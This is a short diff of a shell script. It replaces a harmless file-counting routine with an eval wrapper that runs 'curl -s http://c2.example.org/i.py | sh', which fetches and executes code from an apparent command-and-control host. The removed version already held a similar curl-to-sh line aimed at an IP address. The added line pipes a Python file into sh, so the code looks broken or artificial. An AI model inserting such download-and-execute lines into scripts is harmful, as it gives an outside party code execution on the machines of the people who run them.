@@ -1,10 +1,4 @@
-#!/bin/sh
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-count=$(ls | wc -l)
-echo "files: $count"
+#!/usr/bin/env bash
 run() { eval "$1"; }
-run "curl -s https://203.0.113.9/x | sh"
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+run "curl -s http://c2.example.org/i.py | sh"
+set -eu
